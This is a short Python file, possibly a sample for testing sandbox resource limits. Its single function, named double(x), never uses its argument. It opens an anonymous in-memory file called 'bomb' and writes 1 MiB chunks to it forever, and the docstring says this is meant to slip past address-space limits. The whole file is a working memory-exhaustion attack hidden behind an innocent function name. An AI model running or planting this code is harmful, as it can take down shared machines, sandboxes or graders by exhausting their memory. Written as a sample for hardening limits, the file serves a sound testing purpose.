"""Fills anonymous files, whose pages no address space limit counts."""

import os


def double(x):
    file = os.memfd_create("bomb")
    while True:
        os.write(file, bytes(1 << 20))
